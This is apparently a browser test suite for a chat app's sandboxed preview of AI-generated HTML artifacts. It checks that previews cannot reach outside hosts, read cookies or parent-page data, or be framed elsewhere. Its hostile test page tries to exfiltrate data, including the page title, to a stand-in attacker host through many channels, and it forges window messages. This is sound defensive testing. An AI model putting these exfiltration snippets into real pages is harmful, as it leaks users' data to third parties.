"""What answers made, beside the room: read, run and compared; and what a preview cannot do."""

import re
from collections.abc import Iterator
from typing import Any
from uuid import UUID

import pytest
from playwright.sync_api import Frame, Route, expect

from chat.demo.script import Gate, answer, chunk, openai_chunks, openai_run, stream
from tests.browser.conftest import OpenTab, People
from tests.files.conftest import png
from tests.hostile.foreign import Evil, counting
from tests.support.browser.site import BrowserSite
from tests.support.browser.tab import Tab

Event = dict[str, Any]


@pytest.fixture
def evil() -> Iterator[Evil]:
    with counting() as evil:
        yield evil


# Channel -> what a document does to use it.
CHANNELS = {
    "fetch": "fetch('http://EVIL/fetch').catch(() => {})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('http://EVIL/beacon', 'x')",
    "css": "add('style').textContent = '@import url(http://EVIL/css); body {"
    " background: url(http://EVIL/background) }'",
    "img": "add('img').src = 'http://EVIL/img'",
    "script": "add('script').src = 'http://EVIL/script'",
    "prefetch": "Object.assign(add('link'), {rel: 'prefetch', href: 'http://EVIL/prefetch'})",
    "preconnect": "Object.assign(add('link'), {rel: 'stylesheet', href: 'http://EVIL/style'})",
    "frame": "add('iframe').src = 'http://EVIL/frame'",
    "media": "add('video').src = 'http://EVIL/media'",
    "websocket": "new WebSocket('ws://EVIL/websocket')",
    "eventsource": "new EventSource('http://EVIL/eventsource')",
    "worker": "new Worker('data:text/javascript,fetch(`http://EVIL/worker`)')",
    "popup": "open('http://EVIL/popup')",
    "form": "const f = add('form'); f.action = 'http://EVIL/form'; f.submit()",
    "top": "top.location = 'http://EVIL/top'",
}
# These take the document itself away, and it takes along what it knows.
LEAVING = {
    "anchor": "Object.assign(add('a'), {href: 'http://EVIL/anchor'}).click()",
    "refresh": "document.head.insertAdjacentHTML('beforeend',"
    " '<meta http-equiv=refresh content=\"0;url=http://EVIL/refresh\">')",
    "location": "location = 'http://EVIL/location?' + document.title",
    "inward": "location = '/?' + document.title",
}
READS = {
    "cookie": "document.cookie",
    "parent": "parent.document.title",
    "storage": "localStorage.length",
    "room": "parent.location.href",
}
# Without any script.
MARKUP = (
    "<img src=http://EVIL/markup-img><link rel=stylesheet href=http://EVIL/markup-css>"
    "<link rel='dns-prefetch preconnect prefetch' href=http://EVIL/markup-prefetch>"
    "<iframe src=http://EVIL/markup-frame></iframe><object data=http://EVIL/markup-object></object>"
    "<meta http-equiv=refresh content='1;url=http://EVIL/markup-refresh'>"
)


def hostile(host: str, leaving: str = "") -> str:
    """A document that tries every channel, notes what it could read, and goes away at last."""
    tries = "\n".join(f"attempt('{name}', () => {{ {code} }})" for name, code in CHANNELS.items())
    reads = "\n".join(f"read('{name}', () => {code})" for name, code in READS.items())
    return f"""<!doctype html><title>hostile</title>{MARKUP}<body><p>Here.</p><script>
      window.could = {{}}; window.tried = [];
      function add(tag) {{ return document.body.appendChild(document.createElement(tag)); }}
      function read(name, take) {{ try {{ could[name] = String(take()); }} catch {{ }} }}
      function attempt(name, run) {{ tried.push(name); try {{ run(); }} catch {{ }} }}
      {reads}
      {tries}
      setTimeout(() => {{ {leaving} }}, 1500);
    </script>""".replace("EVIL", host)


def artifact(content: str, *, op: str = "created", **fields: str) -> Event:
    return {
        "type": f"x_artifact.{op}",
        "artifact_id": "art-1",
        "identifier": "gauge",
        "title": "Gauge",
        "language": "html",
        "content_type": "text/html",
        "content": content,
        **fields,
    }


def room_with(site: BrowserSite, tab: OpenTab, *events: Event, **options: Any) -> Tab:
    """Alice's tab on a room whose answer has sent these events."""
    begun = chunk({"role": "assistant", "content": ""})
    with site.speaking("xerotier"):
        said = openai_run("Here it is.")[1:]
        site.fake.script(stream(openai_chunks([begun, *events, *said])))
        run = site.send("Make a gauge.")
        site.until_ended(run)
    return tab("Alice", site.room(run), **options).until_ended()


def address_of_artifact(site: BrowserSite, tab: Tab) -> str:
    room = tab.page.url.split("/")[4].replace("-", "")
    found = site.value(
        "SELECT a.public_id FROM chat_artifact a JOIN chat_conversation c"
        f" ON c.id = a.conversation_id WHERE c.public_id = '{room}'"
    )
    return f"/a/{UUID(found)}/1/"


def preview_of(tab: Tab) -> Frame:
    frame = tab.page.locator(".preview-frame").element_handle().content_frame()
    assert frame is not None
    return frame


def forget(*tabs: Tab) -> None:
    """What a hostile document tried and was refused is no fault of the page around it."""
    for tab in tabs:
        tab.violations.clear()
        tab.errors.clear()


# Longer than a hostile document waits before it goes.
SETTLED_MS = 2500


@pytest.mark.parametrize("leaving", LEAVING)
def test_a_running_preview_reads_nothing_and_reaches_nobody(
    site: BrowserSite, tab: OpenTab, evil: Evil, leaving: str
) -> None:
    alice = room_with(site, tab, artifact(hostile(evil.host, LEAVING[leaving])))
    address = address_of_artifact(site, alice)

    alice.open(address)
    expect(alice.page.frame_locator(".preview-frame").get_by_text("Here.")).to_be_visible()
    quiet = preview_of(alice).evaluate("() => [window.tried, origin]")
    alice.page.wait_for_timeout(SETTLED_MS)
    alice.button("Run").click()
    expect(alice.page.get_by_role("link", name="Stop")).to_be_visible()
    running = preview_of(alice)
    running.wait_for_function("() => window.tried")
    noted = running.evaluate("() => ({could, tried, origin})")
    alice.page.wait_for_timeout(SETTLED_MS)

    assert quiet == [None, "null"]
    assert noted == {"could": {}, "tried": list(CHANNELS), "origin": "null"}
    assert evil.hits == []
    assert alice.page.url == f"{site.url}{address}"
    assert len(alice.page.context.pages) == 1
    assert "Tributary" not in preview_of(alice).content()
    assert alice.violations
    forget(alice)


POLICY = "content-security-policy"


def loosened(tab: Tab, taken: dict[str, set[str]]) -> None:
    """Answers of addresses with such a part come without these parts of their policy. All that
    leaves the browser is fetched for it: for a page from nowhere, the machine is a foreign network."""

    def let_through(route: Route) -> None:
        answer = route.fetch()
        parts = answer.headers.get(POLICY, "").split("; ")
        for place, directives in taken.items():
            if place in route.request.url:
                parts = [part for part in parts if part.split(" ")[0] not in directives]
        route.fulfill(response=answer, headers={**answer.headers, POLICY: "; ".join(parts)})

    tab.page.route("**/*", let_through)


# Of which answers, what is taken away; and who is reached then.
ASKING = {"default-src", "connect-src", "img-src", "script-src", "style-src"}
FRAMING = {"default-src", "frame-src"}
LOOSENED = {
    "the preview may ask anybody": (
        {"/preview/": ASKING},
        {"/fetch", "/img", "/markup-img", "/xhr", "/script", "/style"},
    ),
    "both may frame anything": (
        {"/a/": FRAMING, "/preview/": {*FRAMING, "script-src"}},
        {"/frame", "/markup-frame"},
    ),
}


@pytest.mark.parametrize("name", LOOSENED)
def test_with_a_looser_policy_the_same_document_is_heard(
    site: BrowserSite, tab: OpenTab, evil: Evil, name: str
) -> None:
    taken, reached = LOOSENED[name]
    alice = room_with(site, tab, artifact(hostile(evil.host, LEAVING["location"])))
    address = address_of_artifact(site, alice)
    loosened(alice, taken)

    alice.open(address)
    alice.button("Run").click()
    alice.until(
        lambda: reached <= {hit.partition(" ")[2] for hit in evil.hits}, f"{reached}, {evil.hits}"
    )

    alice.page.unroute_all(behavior="ignoreErrors")
    forget(alice)


BROKEN = """<!doctype html><p>Here.</p><script>
  setTimeout(() => missing("<b>x</b>" + "y".repeat(2000)), 50);
</script>"""
# Another window, and this one, say the same: neither is the preview.
FORGED = """() => {
  postMessage({trouble: "forged"}, "*");
  const other = document.createElement("iframe");
  other.setAttribute("sandbox", "allow-scripts");
  document.body.append(other);
  dispatchEvent(new MessageEvent("message", {data: {trouble: "forged"}, origin: "null", source: other.contentWindow}));
  dispatchEvent(new MessageEvent("message", {data: {trouble: {}}, origin: "null",
    source: document.querySelector(".preview-frame").contentWindow}));
  dispatchEvent(new MessageEvent("message", {data: {trouble: "forged"}, origin: location.origin,
    source: document.querySelector(".preview-frame").contentWindow}));
}"""


@pytest.mark.parametrize("place", ["panel", "page"])
def test_an_error_in_a_preview_goes_into_the_message_when_somebody_wants_it(
    site: BrowserSite, tab: OpenTab, place: str
) -> None:
    alice = room_with(site, tab, artifact(BROKEN))
    posts = site.fake.posts
    if place == "panel":
        alice.composer.fill("Look:")
        alice.answer.get_by_role("link", name="Open Gauge").click()
    else:
        alice.open(address_of_artifact(site, alice))
    trouble = alice.page.locator(".preview-trouble")
    alice.button("Run").click()

    expect(trouble).to_contain_text("missing is not defined (line 2)")
    alice.button("Send to chat").click()

    expect(alice.composer).to_have_value(re.compile("reports an error"))
    if place == "panel":
        expect(alice.composer).to_be_focused()
    text = alice.composer.input_value()
    assert text.startswith("Look:\n\n" if place == "panel" else "The preview of")
    assert "The preview of “Gauge”, version 1, reports an error:" in text
    assert "    Uncaught ReferenceError: missing is not defined" in text
    assert site.fake.posts == posts
    forget(alice)


def test_only_the_frame_itself_is_listened_to_and_its_words_are_text(
    site: BrowserSite, tab: OpenTab
) -> None:
    says = "parent.postMessage({trouble: '<b>x</b>' + 'y'.repeat(2000)}, '*')"
    alice = room_with(
        site, tab, artifact(f"<!doctype html><p>Here.<script>onclick = () => {says}</script>")
    )
    alice.open(address_of_artifact(site, alice))
    alice.button("Run").click()
    expect(alice.page.get_by_role("link", name="Stop")).to_be_visible()
    trouble = alice.page.locator(".preview-trouble")

    alice.page.evaluate(FORGED)
    alice.page.wait_for_timeout(200)
    expect(trouble).to_be_hidden()
    alice.page.frame_locator(".preview-frame").get_by_text("Here.").click()

    expect(trouble.locator(".preview-words")).to_have_text("<b>x</b>" + "y" * 492)
    forget(alice)


@pytest.mark.parametrize("way", ["pasted", "new tab", "opened by a page"])
def test_outside_of_its_frame_a_preview_is_not_there(
    site: BrowserSite, tab: OpenTab, evil: Evil, way: str
) -> None:
    alice = room_with(site, tab, artifact(hostile(evil.host)))
    alice.open(address_of_artifact(site, alice))
    alice.button("Run").click()
    expect(alice.page.get_by_role("link", name="Stop")).to_be_visible()
    source = alice.page.locator(".preview-frame").get_attribute("src")
    assert source

    other = alice.page.context.new_page()
    if way == "pasted":
        other.goto(f"{site.url}{source}")
    elif way == "new tab":
        with alice.page.context.expect_page() as opening:
            alice.page.evaluate("address => { window.open(address, '_blank') }", source)
        other = opening.value
    else:
        other.goto(f"http://{evil.host}/lure")
        evil.hits.clear()
        other.evaluate("address => { location = address }", f"{site.url}{source}")
    expect(other.locator("body")).to_contain_text("This preview is not here")

    assert "hostile" not in other.content()
    assert [hit for hit in evil.hits if "favicon" not in hit] == []
    forget(alice)


def test_nobody_else_can_frame_a_preview(
    site: BrowserSite, tab: OpenTab, people: People, evil: Evil
) -> None:
    alice = room_with(site, tab, artifact("<h1>Gauge reading</h1>"))
    alice.open(address_of_artifact(site, alice))
    source = alice.page.locator(".preview-frame").get_attribute("src")
    strange = people.strange_page()
    strange.goto(f"http://{evil.host}/")

    strange.evaluate(
        "address => { document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: address, id: 'stolen'})) }",
        f"{site.url}{source}",
    )
    strange.wait_for_timeout(1000)

    frame = strange.locator("#stolen").element_handle().content_frame()
    assert frame is not None
    assert "Gauge reading" not in frame.content()
    forget(*people.tabs)


# --- from the card to the panel -------------------------------------------------------------------

FIRST = "<!doctype html>\n<h1>Gauge</h1>\n<p id=level>1.94 m</p>\n"
SECOND = (
    "<!doctype html>\n<h1>Gauge</h1>\n<p id=level>2.12 m</p>\n"
    "<script>document.getElementById('level').textContent = '3.00 m'</script>\n"
)
UPDATE = artifact(SECOND, op="updated")


def test_a_version_is_run_stepped_and_compared_beside_the_room(
    site: BrowserSite, tab: OpenTab
) -> None:
    alice = room_with(site, tab, artifact(FIRST), UPDATE)
    panel = alice.page.locator("#panel")
    level = alice.page.frame_locator(".preview-frame").locator("#level")

    alice.answer.get_by_role("link", name="Open Gauge").click()
    expect(panel.get_by_text("Version 2 of 2")).to_be_visible()
    expect(level).to_have_text("2.12 m")
    panel.get_by_role("button", name="Run").click()
    expect(level).to_have_text("3.00 m")
    panel.get_by_role("link", name="Stop").click()
    expect(level).to_have_text("2.12 m")
    panel.get_by_role("link", name="Changes").click()
    expect(panel.locator(".changes-sum")).to_have_text(
        "From version 1 to version 2: +2 lines added, −1 removed"
    )
    expect(panel.locator(".line-added .line-text").first).to_have_text("<p id=level>2.12 m</p>")
    panel.get_by_role("link", name="Code").click()
    expect(panel.locator(".source-code")).to_contain_text("textContent")
    panel.get_by_role("link", name="Version 1", exact=True).click()
    expect(panel.locator(".source-code")).to_contain_text("1.94 m")
    expect(panel.locator(".source-code")).not_to_contain_text("textContent")
    panel.get_by_role("link", name="Versions").click()
    expect(panel.locator(".version-list li")).to_have_count(2)

    assert alice.page.url.count("/c/") == 1
    expect(alice.answer).to_contain_text("Here it is.")


def test_its_views_are_gone_through_by_keyboard(site: BrowserSite, tab: OpenTab) -> None:
    alice = room_with(site, tab, artifact(FIRST), UPDATE)
    panel, press = alice.page.locator("#panel"), alice.page.keyboard.press

    alice.answer.get_by_role("link", name="Open Gauge").focus()
    press("Enter")
    expect(alice.page.locator("#panel-title")).to_be_focused()
    expect(panel.locator(".preview-frame")).to_be_visible()
    panel.locator(".tabs a").first.focus()
    # The focus stays on the tab that was pressed, and the next one is one key away.
    for view, part in (
        ("Code", ".source-code"),
        ("Changes", ".changes-sum"),
        ("Versions", ".version-list"),
    ):
        press("Tab")
        press("Enter")
        expect(panel.locator(".tabs a:focus")).to_have_text(view)
        expect(panel.locator(".tabs [aria-current]")).to_have_text(view)
        expect(panel.locator(part)).to_be_visible()
    press("Escape")

    expect(panel).to_be_hidden()
    expect(alice.answer.get_by_role("link", name="Open Gauge")).to_be_focused()


def test_the_card_is_the_same_live_and_reloaded_and_stays_open(
    site: BrowserSite, tab: OpenTab
) -> None:
    begun = chunk({"role": "assistant", "content": ""})
    shown = openai_chunks([begun, artifact(FIRST), UPDATE], is_done=False)
    rest = openai_chunks(openai_run("Done.")[1:])
    with site.speaking("xerotier"):
        site.fake.script(stream(shown, Gate(name="rest"), rest))
        alice = tab("Alice", "/")
        alice.write("Make a gauge.")
        alice.page.wait_for_url("**/c/*/")
        card = alice.answer.locator(".artifact")
        expect(card).to_contain_text("Lines added: +2 removed: −1")
        card.locator("summary").click()
        expect(card.get_by_role("link")).to_have_count(0)
        site.fake.release("rest")
        alice.shows("Done.").until_ended()

    expect(card.get_by_role("link", name="Open Gauge")).to_be_visible()
    expect(card.locator("details")).to_have_attribute("open", "")
    card.locator("summary").click()
    live = alice.normalised()
    assert live == alice.reload().until_ended().normalised()


# --- a mockup --------------------------------------------------------------------------------------

BOARD = """<!doctype html><title>Board</title><link rel="stylesheet" href="css/board.css">
<h1>Board</h1><img src="img/dot.png" alt=""><p id="said">still</p>
<script type="module" src="js/board.js"></script><a href="other.html">Other</a>"""
MODULE = "import { word } from './word.js'; document.getElementById('said').textContent = word;"
BUNDLE = {
    "index.html": BOARD.encode(),
    "css/board.css": b"h1 { color: rgb(0, 128, 128) }",
    "js/board.js": MODULE.encode(),
    "js/word.js": b"export const word = 'moved';",
    "img/dot.png": png(8, 8),
    "other.html": b"<h1>The other page</h1>",
}


def test_a_mockup_shows_its_own_files_and_runs_when_asked(site: BrowserSite, tab: OpenTab) -> None:
    created = {
        "type": "x_mockup.created",
        "bundleId": "b-9",
        "title": "Board",
        "entry": "index.html",
        "files": [{"path": path, "size": len(body)} for path, body in BUNDLE.items()],
    }
    begun = chunk({"role": "assistant", "content": ""})
    said = openai_run("Here it is.")[1:]
    files = [
        answer(body, method="GET", path=f"/v1/mockups/b-9/{path}") for path, body in BUNDLE.items()
    ]
    with site.speaking("xerotier"):
        site.fake.script(stream(openai_chunks([begun, created, *said])), *files)
        run = site.send("Make a board.")
        site.until_ended(run)
        alice = tab("Alice", site.room(run)).until_ended()
        alice.answer.get_by_role("link", name="Open Board").click()
        frame = alice.page.frame_locator(".preview-frame")
        expect(frame.get_by_role("heading")).to_have_css("color", "rgb(0, 128, 128)")

    expect(frame.locator("#said")).to_have_text("still")
    dot = frame.locator("img")
    alice.until(lambda: dot.evaluate("image => image.naturalWidth") == 8, "the picture")
    alice.page.locator("#panel").get_by_role("button", name="Run").click()
    expect(frame.locator("#said")).to_have_text("moved")
    frame.get_by_role("link", name="Other").click()
    expect(frame.get_by_role("heading")).to_have_text("The other page")
    forget(alice)
    alice.page.locator("#panel").get_by_role("link", name="Files").last.click()
    expect(alice.page.locator(".tree li")).to_have_count(len(BUNDLE))
    with alice.page.expect_download() as download:
        alice.page.get_by_role("link", name="Download as ZIP").click()
    assert download.value.suggested_filename == "Board-v1.zip"


DRAWN = "graph TD\n  Spring --> Mouth\n"
NOTES = (
    f"# Tides\n\nThe tide $h = a \\sin t$[^1].\n\n```mermaid\n{DRAWN}```\n\n[^1]: Twice a day.\n"
)


@pytest.mark.parametrize(
    ("content", "language"), [(DRAWN, "mermaid"), (NOTES, "markdown")], ids=["mermaid", "markdown"]
)
def test_diagrams_and_formulas_are_drawn_beside_the_room_and_on_their_own_page(
    site: BrowserSite, tab: OpenTab, content: str, language: str
) -> None:
    alice = room_with(site, tab, artifact(content, language=language, content_type=""))
    alice.answer.get_by_role("link", name="Open Gauge").click()
    panel = alice.page.locator("#panel")

    def assert_drawn() -> None:
        drawing = alice.page.frame_locator(".preview-text iframe.drawing")
        expect(drawing.get_by_text("Spring")).to_be_visible()
        if language == "markdown":
            expect(alice.page.locator(".preview-text .math > .katex")).to_have_count(1)
            expect(alice.page.locator(".preview-text .notes > li")).to_contain_text("Twice a day.")

    expect(panel).to_be_visible()
    assert_drawn()
    assert alice.page.locator(".preview-text iframe").get_attribute("sandbox") == "allow-scripts"
    alice.page.locator(".preview-text").get_by_role("button", name="Source").click()
    expect(alice.page.locator(".preview-text .diagram pre")).to_contain_text("Spring --> Mouth")
    alice.open(address_of_artifact(site, alice))
    assert_drawn()
